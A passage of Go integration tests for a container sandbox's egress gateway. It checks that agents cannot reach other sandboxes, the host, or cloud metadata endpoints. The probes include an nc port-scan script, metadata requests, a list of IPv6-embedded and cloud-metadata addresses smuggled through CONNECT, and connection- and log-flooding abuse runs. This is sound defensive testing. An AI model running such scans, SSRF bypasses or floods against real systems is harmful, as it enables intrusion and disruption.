func (r *escapeRig) otherBottle(t *testing.T) {
	res := r.probeAll(t, r.alpha.id, []probe{
		{"beta's agent by address", direct(fmt.Sprintf("http://%s:8080/", r.beta.ip))},
		{"beta's sidecar by address", direct(fmt.Sprintf("http://%s:8080/", r.betaDB.ip))},
		{"beta's agent by name", direct("http://" + r.beta.name + ":8080/")},
		{"beta's sidecar by alias", direct("http://db:8080/")},
		{"beta's gateway by address", direct(fmt.Sprintf("http://%s:3128/", r.betaGW.ip))},
		{"beta's agent through the proxy, by name", viaProxy("http://" + r.beta.name + ":8080/")},
		{"tcp to beta's agent", fmt.Sprintf("timeout 3 nc %s 8080", r.beta.ip)},
	})
	for name := range res {
		if strings.Contains(name, "proxy") {
			want403(t, res, name, "beta-")
		} else {
			wantBlocked(t, res, name, "beta-")
		}
	}
	// And the other way round.
	resB := r.probeAll(t, r.beta.id, []probe{
		{"alpha's agent from beta", direct(fmt.Sprintf("http://%s:8080/", r.alpha.ip))},
		{"alpha's sidecar from beta", direct(fmt.Sprintf("http://%s:8080/", r.alphaWeb.ip))},
	})
	for name := range resB {
		wantBlocked(t, resB, name, "alpha-")
	}
}

func (r *escapeRig) gatewayPorts(t *testing.T) {
	gw := r.alphaGW.ip.String()
	script := fmt.Sprintf(`for p in $(seq 1 1024) 2375 2376 3000 3127 3129 5000 5432 6379 8000 8080 8443 9000 9090 10250 65535; do
  r=$(timeout 2 nc %[1]s $p </dev/null 2>&1); rc=$?
  case "$r" in *refused*) ;; *) echo "port $p answered (exit $rc): $r";; esac
done
printf 'GET /.bottlefile/health HTTP/1.0\r\n\r\n' | timeout 3 nc %[1]s 3128 | head -1
echo scanned`, gw)
	start := time.Now()
	res := r.execIn(t, r.alpha.id, script)
	t.Logf("scanned 1040 ports of %s in %v", gw, time.Since(start).Round(time.Millisecond))
	if !strings.Contains(res.out, "scanned") {
		t.Fatalf("the scan did not finish: %q", res.out)
	}
	if !strings.Contains(res.out, "200") {
		t.Errorf("control: the proxy port 3128 does not answer its health check: %q", res.out)
	}
	for _, line := range strings.Split(res.out, "\n") {
		if strings.HasPrefix(line, "port ") {
			t.Errorf("gateway %s: %s", gw, line)
		}
	}
}

func (r *escapeRig) metadata(t *testing.T) {
	res := r.probeAll(t, r.alpha.id, []probe{
		{"direct", direct("http://169.254.169.254/latest/meta-data/")},
		{"via proxy", viaProxy("http://169.254.169.254/latest/meta-data/")},
		{"CONNECT", connect(r.alphaGW.name, "169.254.169.254:80")},
	})
	wantBlocked(t, res, "direct", "")
	want403(t, res, "via proxy", "")
	want403(t, res, "CONNECT", "")
}

// allowlistInPlace changes alpha's allowlist: it adds the denied host, and
// address rules naming alpha's bottle gateway address and beta's workloads
// (which the gateway must refuse whatever the rules say: 6b, 7b).
func (r *escapeRig) allowlistInPlace(t *testing.T) {
	before, err := r.cli.ContainerInspect(context.Background(), r.alpha.id)
	if err != nil {
		t.Fatal(err)
	}
	betaBefore := r.beta.id
	r.writeConfig(r.allowlist(
		"denied-host:8080", r.deniedIP.String()+":8080",
		fmt.Sprintf("%s:%d", r.alphaNetGW, r.host.port),
		r.beta.ip.String()+":8080", r.betaDB.ip.String()+":8080", r.alphaWeb.ip.String()+":8080",
	))
	plan := bottlefile(t, r.dir, "plan")
	if plan.code != 0 {
		t.Fatalf("plan: %s", plan)
	}
	for _, want := range []string{"# agent.alpha.gateway will be updated in place", `+ "denied-host:8080"`, "Plan: 0 to add, 1 to change, 0 to destroy."} {
		if !strings.Contains(plan.stdout, want) {
			t.Errorf("the plan lacks %q:\n%s", want, plan.stdout)
		}
	}
	if res := bottlefile(t, r.dir, "apply", "-auto-approve"); res.code != 0 {
		t.Fatalf("apply: %s", res)
	}
	after, err := r.cli.ContainerInspect(context.Background(), r.alpha.id)
	if err != nil {
		t.Fatalf("alpha's container is gone after the update: %v", err)
	}
	if after.State.StartedAt != before.State.StartedAt || after.RestartCount != before.RestartCount || !after.State.Running {
		t.Errorf("alpha's container was restarted: started %s -> %s, restarts %d -> %d", before.State.StartedAt, after.State.StartedAt, before.RestartCount, after.RestartCount)
	}
	if now := r.find(t, "agent.alpha"); now.id != r.alpha.id {
		t.Errorf("alpha's container was replaced: %s -> %s", r.alpha.id[:12], now.id[:12])
	}
	if now := r.find(t, "agent.beta"); now.id != betaBefore {
		t.Error("beta's container changed")
	}
	if gw := r.find(t, "agent.alpha.gateway"); gw.id != r.alphaGW.id {
		t.Errorf("the gateway was replaced, not updated: %s -> %s", r.alphaGW.id[:12], gw.id[:12])
	}
	// In force at once: apply waited for the gateway to report it.
	res := r.probeAll(t, r.alpha.id, []probe{{"denied host, now allowed", viaProxy("http://denied-host:8080/")}})
	wantContent(t, res, "denied host, now allowed", "denied-host-content")
	if plan := bottlefile(t, r.dir, "plan"); !strings.Contains(plan.stdout, "No changes.") {
		t.Errorf("plan after the update: %s", plan)
	}
}

func (r *escapeRig) bottleGatewayViaProxy(t *testing.T) {
	res := r.probeAll(t, r.alpha.id, []probe{
		{"alpha's bottle gateway address", viaProxy(r.hostURL(r.alphaNetGW))},
		{"alpha's own sidecar by address", viaProxy(fmt.Sprintf("http://%s:8080/", r.alphaWeb.ip))},
	})
	want403(t, res, "alpha's bottle gateway address", "host-service-secret")
	want403(t, res, "alpha's own sidecar by address", "alpha-web-content")
}

func (r *escapeRig) otherBottleViaProxy(t *testing.T) {
	res := r.probeAll(t, r.alpha.id, []probe{
		{"beta's agent, an allowlisted address", viaProxy(fmt.Sprintf("http://%s:8080/", r.beta.ip))},
		{"beta's sidecar, an allowlisted address", viaProxy(fmt.Sprintf("http://%s:8080/", r.betaDB.ip))},
		{"CONNECT to beta's agent", connect(r.alphaGW.name, r.beta.ip.String()+":8080")},
	})
	for name := range res {
		want403(t, res, name, "beta-")
	}
}

func (r *escapeRig) hostSawNothing(t *testing.T) {
	if seen := r.host.seen(); len(seen) > r.hostBaseline {
		t.Errorf("the host service was reached %d times from bottles: %v", len(seen)-r.hostBaseline, seen[r.hostBaseline:])
	}
}

// decision is one line of a gateway's decision log.
type decision struct {
	Source, Destination, Rule, Reason string
	Allowed                           bool
}

func findDecision(log, dest string) (decision, bool) {
	var found decision
	ok := false
	for _, line := range strings.Split(log, "\n") {
		var d decision
		if json.Unmarshal([]byte(line), &d) == nil && d.Destination == dest {
			found, ok = d, true
		}
	}
	return found, ok
}

// logs is a container's whole log.
func (r *escapeRig) logs(t testing.TB, id string) string {
	rc, err := r.cli.ContainerLogs(context.Background(), id, container.LogsOptions{ShowStdout: true, ShowStderr: true})
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	var out bytes.Buffer
	stdcopy.StdCopy(&out, &out, rc)
	return out.String()
}

// waitLog waits until a container's log holds s, and fails the test
// (without stopping it) when it never does.
func (r *escapeRig) waitLog(t testing.TB, id, s string, d time.Duration) bool {
	t.Helper()
	deadline := time.Now().Add(d)
	for {
		log := r.logs(t, id)
		if strings.Contains(log, s) {
			return true
		}
		if time.Now().After(deadline) {
			t.Errorf("control: %q never appeared in the log of %s:\n%s", s, id[:12], log)
			return false
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// waitLogCount waits up to d for s to appear n times in the log of id,
// and returns how many times it did and the log.
func (r *escapeRig) waitLogCount(t testing.TB, id, s string, n int, d time.Duration) (int, string) {
	t.Helper()
	deadline := time.Now().Add(d)
	for {
		log := r.logs(t, id)
		if got := strings.Count(log, s); got >= n || time.Now().After(deadline) {
			return got, log
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// syncBuffer is a bytes.Buffer safe for a writer and a reader at once.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// TestEscapeIsolationCheck: on an engine where isolation cannot hold,
// plan fails and says so, instead of promising what it cannot give. The
// test starts a second dockerd beside the first with --iptables=false (an
// internal network isolates nothing there), once with a default bridge of
// its own (the check's signal: dockerd then turns IP masquerading off on
// it) and once with none (nothing tells, so it is refused too), and stops
// it after. The same Bottlefile plans on the first engine.
func TestEscapeIsolationCheck(t *testing.T) {
	parallel(t)
	cli := dockertest.Client(t)
	img := dockertest.BusyboxImage(t, cli)
	dockerd, err := exec.LookPath("dockerd")
	if err != nil {
		dockerd = "/usr/sbin/dockerd"
	}
	if _, err := os.Stat(dockerd); err != nil || os.Geteuid() != 0 {
		msg := fmt.Sprintf("a second dockerd needs root and %s (%v)", dockerd, err)
		if os.Getenv(dockertest.RequireEnv) == "1" {
			t.Fatal(msg)
		}
		t.Skip(msg)
	}
	const config = `
runtime "other" {
  driver = "docker"
  host   = %q
}
agent "coder" {
  runtime = runtime.other
  image   = %q
  command = ["sleep", "600"]
  egress {
    allow = ["github.com:443"]
  }
}
`
	dir := t.TempDir()
	host := os.Getenv("DOCKER_HOST")
	if host == "" {
		host = client.DefaultDockerHost
	}
	writeBottlefile(t, dir, config, host, img)
	if res := bottlefile(t, dir, "plan"); res.code != 0 || !strings.Contains(res.stdout, "agent.coder.gateway") {
		t.Fatalf("control: plan on the first engine: %s", res)
	}

	check := func(t *testing.T, sock, want string) {
		writeBottlefile(t, dir, config, "unix://"+sock, img)
		res := bottlefile(t, dir, "plan")
		if res.code != 1 {
			t.Fatalf("plan on an engine without iptables: want exit 1, got %s", res)
		}
		t.Logf("plan said:\n%s", res.stderr)
		for _, w := range []string{"cannot promise egress isolation", `runtime "other"`, want} {
			if !strings.Contains(res.stderr, w) {
				t.Errorf("the error lacks %q:\n%s", w, res.stderr)
			}
		}
	}
	t.Run("iptables_off", func(t *testing.T) {
		// In its own network namespace the second engine makes a default
		// bridge of its own, without touching the host's docker0.
		sock := startEngine(t, dockerd, "--iptables=false")
		check(t, sock, "--iptables=false")
	})
	t.Run("no_default_bridge", func(t *testing.T) {
		sock := startEngine(t, dockerd, "--bridge", "none", "--iptables=false", "--ip-masq=false")
		check(t, sock, "--bridge=none")
	})
}

// startEngine starts a second dockerd with its own paths and the flags
// given, waits until it answers, and stops it (by its process group) when
// the test ends. It returns its socket's path.
func startEngine(t *testing.T, dockerd string, flags ...string) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "bfdk-") // short: a socket path has a length limit
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "daemon.json"), []byte("{}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(dir, "docker.sock")
	args := append([]string{
		"--config-file", filepath.Join(dir, "daemon.json"),
		"--data-root", filepath.Join(dir, "root"), "--exec-root", filepath.Join(dir, "exec"),
		"--pidfile", filepath.Join(dir, "pid"), "-H", "unix://" + sock,
		// Its own containerd namespaces: where the machine's containerd is
		// shared, the second engine must not see the first one's tasks.
		"--containerd-namespace", "bf-" + filepath.Base(dir),
		"--containerd-plugins-namespace", "bf-" + filepath.Base(dir) + "-plugins",
	}, flags...)
	cmd := exec.Command(dockerd, args...)
	logf, err := os.Create(filepath.Join(dir, "dockerd.log"))
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stdout, cmd.Stderr = logf, logf
	// A network namespace of its own: a dockerd started with --bridge
	// (none or another) deletes the default bridge docker0 it finds, and in
	// the host's namespace that would be the first engine's.
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true, Cloneflags: syscall.CLONE_NEWNET}
	if err := cmd.Start(); err != nil {
		t.Fatalf("starting %s: %v", dockerd, err)
	}
	exited := make(chan struct{})
	go func() { cmd.Wait(); close(exited) }()
	t.Cleanup(func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGTERM)
		select {
		case <-exited:
		case <-time.After(15 * time.Second):
			syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
			<-exited
		}
		logf.Close()
		os.RemoveAll(dir)
	})
	c, err := client.NewClientWithOpts(client.WithHost("unix://"+sock), client.WithAPIVersionNegotiation())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	deadline := time.Now().Add(30 * time.Second)
	for {
		ctx, cancel := context.WithTimeout(context.Background(), time.Second)
		_, err := c.Ping(ctx)
		cancel()
		if err == nil {
			return sock
		}
		select {
		case <-exited:
			log, _ := os.ReadFile(filepath.Join(dir, "dockerd.log"))
			t.Fatalf("the second dockerd exited: %s", log)
		default:
		}
		if time.Now().After(deadline) {
			log, _ := os.ReadFile(filepath.Join(dir, "dockerd.log"))
			t.Fatalf("the second dockerd did not answer within 30s: %v\n%s", err, log)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// TestEscapeManagedEgressNetwork checks the default wiring, without an
// egress_network: a bottlefile-managed egress network shared by the
// runtime's gateways, and what each gateway and agent runs with.
func TestEscapeManagedEgressNetwork(t *testing.T) {
	parallel(t)
	cli := dockertest.Client(t)
	img := dockertest.BusyboxImage(t, cli)
	dir := t.TempDir()
	const config = `
agent "one" {
  image   = %[1]q
  command = ["sleep", "600"]
  egress {
    allow = ["github.com:443"]
  }
}
agent "two" {
  image   = %[1]q
  command = ["sleep", "600"]
  # An empty allowlist still has a gateway (it refuses and logs);
  # without an egress block there would be none.
  egress {
    allow = []
  }
}
`
	writeBottlefile(t, dir, config, img)
	mustRun(t, dir, "apply", "-auto-approve")
	lineage := lineageOf(t, cli, dir)
	ctx := context.Background()

	nets := networksWith(t, cli, drivers.LabelLineage+"="+lineage, drivers.LabelAddress+"=runtime.default.egress")
	if len(nets) != 1 {
		t.Fatalf("want one managed egress network, got %+v", nets)
	}
	egressNet := nets[0]
	subnet, _ := netip.ParsePrefix(egressNet.IPAM.Config[0].Subnet)
	if egressNet.Internal || egressNet.Name != "bf-"+lineage[:8]+"-default.egress" || !netip.MustParsePrefix("10.214.0.0/16").Contains(subnet.Addr()) || subnet.Bits() != 24 {
		t.Errorf("egress network = %s internal %v subnet %s", egressNet.Name, egressNet.Internal, subnet)
	}

	for _, name := range []string{"one", "two"} {
		gws := containersWith(t, cli, drivers.LabelLineage+"="+lineage, drivers.LabelAddress+"=agent."+name+".gateway")
		if len(gws) != 1 {
			t.Fatalf("want one gateway for agent.%s, got %+v", name, gws)
		}
		gw, err := cli.ContainerInspect(ctx, gws[0].ID)
		if err != nil {
			t.Fatal(err)
		}
		bottle := "bf-" + lineage[:8] + "-" + name
		ep := gw.NetworkSettings.Networks[bottle]
		if ep == nil || !slices.Contains(ep.Aliases, "gateway") || gw.NetworkSettings.Networks[egressNet.Name] == nil || len(gw.NetworkSettings.Networks) != 2 {
			t.Errorf("gateway of %s is on %v", name, slices.Collect(mapKeys(gw.NetworkSettings.Networks)))
			continue
		}
		cmd := strings.Join(gw.Config.Cmd, " ")
		for _, want := range []string{"gateway -listen " + ep.IPAddress + ":3128 ", "-forbid 10.213.0.0/16", "-forbid " + subnet.String(), "-forbid 172.17.0.1/32"} {
			if !strings.Contains(cmd+" ", want) {
				t.Errorf("gateway of %s runs %q, lacking %q", name, cmd, want)
			}
		}
		if gw.Config.User != "65534:65534" || !slices.Equal(gw.HostConfig.CapDrop, []string{"ALL"}) || gw.Config.Labels["io.bottlefile.kind"] != "gateway" {
			t.Errorf("gateway of %s: user %q, cap drop %v, labels %v", name, gw.Config.User, gw.HostConfig.CapDrop, gw.Config.Labels)
		}
		gimg, err := cli.ImageInspect(ctx, gw.Image)
		if err != nil || gimg.Config.Labels["io.bottlefile.gateway-image"] != "1" {
			t.Errorf("gateway image %s: labels %v, %v", gw.Image, gimg.Config.Labels, err)
		}
		agents := containersWith(t, cli, drivers.LabelLineage+"="+lineage, drivers.LabelAddress+"=agent."+name)
		ag, err := cli.ContainerInspect(ctx, agents[0].ID)
		if err != nil {
			t.Fatal(err)
		}
		if len(ag.NetworkSettings.Networks) != 1 || ag.NetworkSettings.Networks[bottle] == nil || !slices.ContainsFunc(ag.HostConfig.CapDrop, func(c string) bool { return strings.TrimPrefix(c, "CAP_") == "NET_RAW" }) {
			t.Errorf("agent %s: networks %v, cap drop %v", name, slices.Collect(mapKeys(ag.NetworkSettings.Networks)), ag.HostConfig.CapDrop)
		}
	}

	// A dynamically linked gateway binary is refused at apply, clearly.
	if dyn := dynamicBinary(); dyn != "" {
		dir2 := t.TempDir()
		writeBottlefile(t, dir2, "runtime \"local\" {\n  driver = \"docker\"\n  gateway_binary = %q\n}\n"+
			"agent \"x\" {\n  runtime = runtime.local\n  image = %q\n  command = [\"sleep\", \"600\"]\n  egress {\n    allow = []\n  }\n}\n", dyn, img)
		res := bottlefile(t, dir2, "apply", "-auto-approve")
		lineageOf(t, cli, dir2)
		if res.code != 1 || !strings.Contains(res.stderr, "CGO_ENABLED=0, as make build does") {
			t.Errorf("apply with the dynamic gateway binary %s: %s", dyn, res)
		}
	}

	mustRun(t, dir, "destroy", "-auto-approve")
	if left := networksWith(t, cli, drivers.LabelLineage+"="+lineage); len(left) != 0 {
		t.Errorf("networks left after destroy: %+v", left)
	}
}

func mapKeys[V any](m map[string]V) func(func(string) bool) {
	return func(yield func(string) bool) {
		for k := range m {
			if !yield(k) {
				return
			}
		}
	}
}

// dynamicBinary is a dynamically linked executable on this machine, or "".
func dynamicBinary() string {
	for _, p := range []string{os.Args[0], "/bin/sh", "/usr/bin/env", "/bin/ls"} {
		f, err := elf.Open(p)
		if err != nil {
			continue
		}
		for _, prog := range f.Progs {
			if prog.Type == elf.PT_INTERP {
				f.Close()
				return p
			}
		}
		f.Close()
	}
	return ""
}

// --- Issue 17: a gateway that holds under abuse. ---

// abuseTool builds bench/gatewayabuse statically and copies it into
// alpha's agent as /tmp/gatewayabuse.
func (r *escapeRig) abuseTool(t *testing.T) {
	data, err := os.ReadFile(r.abuseBinary(t))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: "gatewayabuse", Mode: 0o755, Size: int64(len(data)), ModTime: time.Now()})
	tw.Write(data)
	tw.Close()
	if err := r.cli.CopyToContainer(context.Background(), r.alpha.id, "/tmp", &buf, container.CopyToContainerOptions{}); err != nil {
		t.Fatal(err)
	}
}

// abuseResult is what bench/gatewayabuse prints.
type abuseResult struct {
	Requests, Answers int64
	Opened            int
	Closed            int    `json:"closed_by_gateway"`
	Connect           string `json:"connect_status"`
}

func (r *escapeRig) abuse(t *testing.T, args ...string) abuseResult {
	t.Helper()
	out, code := dockertest.Exec(t, r.cli, r.alpha.id, append([]string{"/tmp/gatewayabuse", "-addr", r.alphaGW.name + ":3128"}, args...)...)
	var res abuseResult
	if code != 0 || json.Unmarshal([]byte(strings.TrimSpace(out)), &res) != nil {
		t.Fatalf("gatewayabuse %v: exit %d: %s", args, code, out)
	}
	t.Logf("gatewayabuse %v: %s", args, strings.TrimSpace(out))
	return res
}

// gatewayStats is one reading of the gateway container's cgroup.
func (r *escapeRig) gatewayStats(t *testing.T) container.StatsResponse {
	t.Helper()
	resp, err := r.cli.ContainerStatsOneShot(context.Background(), r.alphaGW.id)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var s container.StatsResponse
	if err := json.NewDecoder(resp.Body).Decode(&s); err != nil {
		t.Fatal(err)
	}
	return s
}

// wantGatewayIntact fails unless alpha's gateway has its limits and still
// runs as it did (never restarted, never killed for memory).
func (r *escapeRig) wantGatewayIntact(t *testing.T, before *container.InspectResponse) *container.InspectResponse {
	t.Helper()
	info, err := r.cli.ContainerInspect(context.Background(), r.alphaGW.id)
	if err != nil {
		t.Fatal(err)
	}
	hc := info.HostConfig
	if hc.Memory == 0 || hc.MemorySwap != hc.Memory || hc.NanoCPUs == 0 || hc.PidsLimit == nil || *hc.PidsLimit == 0 ||
		!slices.ContainsFunc(hc.Ulimits, func(u *container.Ulimit) bool { return u.Name == "nofile" && u.Hard > 0 }) {
		t.Errorf("the gateway has no memory, CPU, pids or open-file limit: memory %d swap %d cpus %d pids %v ulimits %v", hc.Memory, hc.MemorySwap, hc.NanoCPUs, hc.PidsLimit, hc.Ulimits)
	}
	if hc.LogConfig.Type != "json-file" || hc.LogConfig.Config["max-size"] == "" || hc.LogConfig.Config["max-file"] == "" {
		t.Errorf("the gateway's log is not rotated: %+v", hc.LogConfig)
	}
	if before != nil && (!info.State.Running || info.State.OOMKilled || info.RestartCount != before.RestartCount || info.State.StartedAt != before.State.StartedAt) {
		t.Errorf("the gateway did not hold: running %v, OOM-killed %v, restarts %d -> %d, started %s -> %s",
			info.State.Running, info.State.OOMKilled, before.RestartCount, info.RestartCount, before.State.StartedAt, info.State.StartedAt)
	}
	return &info
}

// embeddedAddresses: an allowed name that resolves to an IPv6 form of a
// forbidden IPv4 address, to a metadata endpoint or to a special-purpose
// address is refused (the recorder answers v4-/v6- names with the address
// they spell).
func (r *escapeRig) embeddedAddresses(t *testing.T) {
	refused := map[string]string{ // the address -> what the refusal says
		"64:ff9b::7f00:1":               "a NAT64 form of 127.0.0.1",
		"64:ff9b:1::7f00:1":             "a local-use NAT64 form of 127.0.0.1",
		"::ffff:0:7f00:1":               "a SIIT (IPv4-translated) form of 127.0.0.1",
		"::ffff:0:a9fe:a9fe":            "a SIIT (IPv4-translated) form of 169.254.169.254",
		"::ffff:7f00:1":                 "a loopback address",
		"::7f00:1":                      "IPv4-compatible",
		"2002:7f00:1::1":                "a 6to4 address",
		"2001:0:4136:e378::1":           "a Teredo address",
		"2606:4700::5efe:7f00:1":        "an ISATAP form of 127.0.0.1",
		"169.254.169.254":               "the link-local cloud metadata address",
		"100.100.100.200":               "the cloud metadata address of Alibaba Cloud",
		"168.63.129.16":                 "the host endpoint of Azure",
		"192.0.0.192":                   "the cloud metadata address of Oracle Cloud",
		"fd00:ec2::254":                 "an instance service address of AWS",
		"198.18.0.1":                    "a benchmarking address",
		"192.0.0.8":                     "an IETF protocol assignment address",
		"192.0.2.1":                     "a documentation address",
		"198.51.100.1":                  "a documentation address",
		"203.0.113.1":                   "a documentation address",
		"2001:db8::1":                   "a documentation address",
		"100::1":                        "a discard-only address",
		"64:ff9b::" + hex4(r.outsideGW): "a NAT64 form of " + r.outsideGW.String(),
	}
	name := func(a string) string {
		ip := netip.MustParseAddr(a)
		if ip.Is4() {
			return "v4-" + strings.ReplaceAll(a, ".", "-") + ".ip.recorded.test"
		}
		b := ip.As16() // every group spelled out: no "::", no dotted tail
		g := make([]string, 8)
		for i := range g {
			g[i] = fmt.Sprintf("%x", uint16(b[2*i])<<8|uint16(b[2*i+1]))
		}
		return "v6-" + strings.Join(g, "-") + ".ip.recorded.test"
	}
	probes := []probe{{"control: a name for the allowed host's address", connect(r.alphaGW.name, name(r.allowedIP.String())+":8080")}}
	for a := range refused {
		// The CONNECT alone: were one let through, nothing would be sent
		// to an address outside the test's world.
		probes = append(probes, probe{a, fmt.Sprintf(`(printf 'CONNECT %[1]s HTTP/1.1\r\n\r\n'; sleep 2) | timeout 4 nc %[2]s 3128`, name(a)+":8080", r.alphaGW.name)})
	}
	res := r.probeAll(t, r.alpha.id, probes)
	wantContent(t, res, "control: a name for the allowed host's address", "allowed-host-content")
	// An address the gateway was told to forbid (the engine host's own:
	// this machine's default gateway may be a documentation address) is
	// refused for that first.
	var forbid []netip.Prefix
	if insp, err := r.cli.ContainerInspect(context.Background(), r.alphaGW.id); err == nil {
		for i, arg := range insp.Config.Cmd {
			if arg == "-forbid" && i+1 < len(insp.Config.Cmd) {
				if p, err := netip.ParsePrefix(insp.Config.Cmd[i+1]); err == nil {
					forbid = append(forbid, p)
				}
			}
		}
	}
	for a, why := range refused {
		got := res[a].out
		if slices.ContainsFunc(forbid, func(p netip.Prefix) bool { return p.Contains(netip.MustParseAddr(a)) }) {
			why = "a forbidden address"
		}
		if !strings.Contains(got, "403") || !strings.Contains(got, why) {
			t.Errorf("%s (%s): want a 403 saying %q, got %q", a, name(a), why, got)
		}
	}
}

// hex4 is an IPv4 address as the last 32 bits of an IPv6 address.
func hex4(a netip.Addr) string {
	b := a.As4()
	return fmt.Sprintf("%x:%x", uint16(b[0])<<8|uint16(b[1]), uint16(b[2])<<8|uint16(b[3]))
}

// idleConnections: 3,000 idle connections, then 3,000 that never read
// their answer, leave a fresh CONNECT answered and the gateway running
// under its memory limit.
func (r *escapeRig) idleConnections(t *testing.T) {
	r.abuseTool(t)
	before := r.wantGatewayIntact(t, nil)
	for _, mode := range []string{"-unread=false", "-unread"} {
		res := r.abuse(t, "-mode", "idle", mode, "-n", "3000", "-hold", "3s", "-connect", "allowed-host:8080")
		if res.Opened < 2900 {
			t.Errorf("%s: only %d of 3000 connections opened", mode, res.Opened)
		}
		if !strings.Contains(res.Connect, " 200 ") {
			t.Errorf("%s: with %d connections open, a fresh CONNECT got %q, want 200", mode, res.Opened, res.Connect)
		}
		stats := r.gatewayStats(t)
		peak := stats.MemoryStats.MaxUsage // cgroup v1; v2 reports no peak, only usage
		if peak == 0 {
			peak = stats.MemoryStats.Usage
		}
		limit := before.HostConfig.Memory
		if limit == 0 || peak == 0 || int64(peak) >= limit {
			t.Errorf("%s: the gateway peaked at %d bytes, its limit is %d", mode, peak, limit)
		}
		t.Logf("%s: gateway memory peak %.1f MiB (limit %.0f MiB), %d of %d closed by the gateway", mode,
			float64(peak)/(1<<20), float64(limit)/(1<<20), res.Closed, res.Opened)
	}
	r.wantGatewayIntact(t, before)
}

// maxFloodLog is the most a 10 s flood from one source may add to the
// gateway's log: refusal lines are rate-limited per source (20 at once,
// then 5 a second) and each is at most egress.MaxDecisionLine bytes, so
// (20 + 5×10) × 2 KiB = 140 KiB, with room for a few more lines.
const maxFloodLog = 256 << 10

// logFlood: 10 s of 60 KB bad requests keep the gateway's log under
// maxFloodLog and its CPU under its limit.
func (r *escapeRig) logFlood(t *testing.T) {
	r.abuseTool(t)
	before := r.wantGatewayIntact(t, nil)
	s0 := r.gatewayStats(t)
	start := time.Now()
	since := start.UTC().Format(time.RFC3339Nano)
	res := r.abuse(t, "-mode", "flood", "-workers", "16", "-duration", "10s", "-size", "60000")
	elapsed := time.Since(start)
	s1 := r.gatewayStats(t)
	if res.Answers < 50 {
		t.Fatalf("control: the flood got %d answers to %d requests", res.Answers, res.Requests)
	}
	time.Sleep(time.Second) // the engine writes the last lines
	rc, err := r.cli.ContainerLogs(context.Background(), r.alphaGW.id, container.LogsOptions{ShowStdout: true, ShowStderr: true, Since: since})
	if err != nil {
		t.Fatal(err)
	}
	var log bytes.Buffer
	stdcopy.StdCopy(&log, &log, rc)
	rc.Close()
	lines := strings.Split(strings.TrimSpace(log.String()), "\n")
	longest, suppressed := 0, 0
	for _, l := range lines {
		longest = max(longest, len(l))
		var d struct{ Suppressed int }
		if json.Unmarshal([]byte(l), &d) == nil {
			suppressed += d.Suppressed
		}
	}
	cores := float64(s1.CPUStats.CPUUsage.TotalUsage-s0.CPUStats.CPUUsage.TotalUsage) / float64(elapsed.Nanoseconds())
	limit := float64(before.HostConfig.NanoCPUs) / 1e9
	t.Logf("flood: %d requests, %d answered; log +%d bytes in %d lines (longest %d, %d refusals left out); gateway CPU %.2f cores (limit %.1f)",
		res.Requests, res.Answers, log.Len(), len(lines), longest, suppressed, cores, limit)
	if log.Len() > maxFloodLog {
		t.Errorf("the flood added %d bytes to the gateway's log, want at most %d", log.Len(), maxFloodLog)
	}
	if longest > egress.MaxDecisionLine {
		t.Errorf("a log line of %d bytes, want at most %d", longest, egress.MaxDecisionLine)
	}
	if limit == 0 || cores > limit*1.1 {
		t.Errorf("the gateway used %.2f cores, its limit is %.1f", cores, limit)
	}
	r.wantGatewayIntact(t, before)
}

// searchDomains: with search domains in the gateway's resolver
// configuration (as a host that has some hands down), a lookup of an
// allowed name that does not exist reaches the recorder as that name only,
// never with a search domain appended: that would be a lookup of a name
// the allowlist does not allow.
func (r *escapeRig) searchDomains(t *testing.T) {
	info, err := r.cli.ContainerInspect(context.Background(), r.alphaGW.id)
	if err != nil {
		t.Fatal(err)
	}
	conf, err := os.ReadFile(info.ResolvConfPath)
	if err != nil {
		t.Fatalf("reading the gateway's resolv.conf (the engine must be local): %v", err)
	}
	with := regexp.MustCompile(`(?m)^search .*\n`).ReplaceAllString(string(conf), "") + "search corp-" + r.run + ".test\n"
	if err := os.WriteFile(info.ResolvConfPath, []byte(with), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("the gateway's resolv.conf:\n%s", with)
	// Go's resolver reads its configuration again at most every 5 s.
	time.Sleep(6 * time.Second)
	name := "nosuch-" + r.run + ".recorded.test"
	for range 2 {
		r.execIn(t, r.alpha.id, viaProxy("http://"+name+":8080/"))
	}
	r.waitLog(t, r.recorderID, "query "+name+" ", 10*time.Second) // control: the lookup was made
	if log := r.logs(t, r.recorderID); strings.Contains(log, name+".corp-"+r.run) {
		t.Errorf("the gateway looked up %s with a search domain:\n%s", name, log)
	}
}

// twin starts a container made like alpha's agent (its image, DNS options
// and, on net, its place) whose resolver forwards to the recorder, as the
// agent's own resolver would forward if it forwarded at all.
func (r *escapeRig) twin(t *testing.T, netName, suffix string) string {
	ctx := context.Background()
	agent, err := r.cli.ContainerInspect(ctx, r.alpha.id)
	if err != nil {
		t.Fatal(err)
	}
	created, err := r.cli.ContainerCreate(ctx,
		&container.Config{Image: agent.Config.Image, Cmd: []string{"sleep", "600"}, Labels: map[string]string{dockertest.TestLabel: "1", escapeLabel: r.run}},
		&container.HostConfig{
			NetworkMode: container.NetworkMode(netName),
			DNS:         []string{r.recorderIP.String()},
			DNSSearch:   []string{"corp-" + r.run + ".test"},
			DNSOptions:  agent.HostConfig.DNSOptions,
			CapDrop:     agent.HostConfig.CapDrop,
		}, nil, nil, "bottlefile-escape-"+r.run+"-twin-"+suffix)
	if err != nil {
		t.Fatal(err)
	}
